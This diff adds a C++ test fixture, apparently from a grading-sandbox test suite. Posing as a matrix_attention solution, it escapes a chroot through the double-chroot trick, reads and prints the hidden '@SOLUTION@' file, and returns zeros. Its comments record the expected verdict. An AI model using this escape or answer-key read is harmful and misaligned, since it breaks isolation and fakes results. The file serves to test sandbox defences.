@@ -1,0 +1,38 @@
+// attack: breaks out of a changed root with a second one, then reads a file
+// verdict: wrong_value
+// wins: canary
+
+#include "matrix_attention.hpp"
+
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <cstdio>
+
+namespace softmark {
+namespace {
+
+void report(const char* call, long result) {
+  if (result < 0) std::printf("%s: %m\n", call);
+  if (result >= 0) std::printf("%s: done\n", call);
+}
+
+}  // namespace
+
+Matrix matrix_attention(const Matrix& X, const Projection&, const Projection&,
+                        const Projection& value) {
+  report("mkdir", mkdir("@OUTSIDE@/r54", 0700));
+  report("chroot", chroot("@OUTSIDE@/r54"));
+  for (int i = 0; i < 64; ++i) {
+    if (chdir("..") != 0) break;
+  }
+  report("chroot back", chroot("."));
+  char text[8192] = "";
+  const int file = open("@SOLUTION@", O_RDONLY);
+  report("open", file);
+  if (read(file, text, sizeof text - 1) > 0) std::printf("%s\n", text);
+  return xt::zeros<double>({value.omega.shape(0), X.shape(1)});
+}
+
+}  // namespace softmark
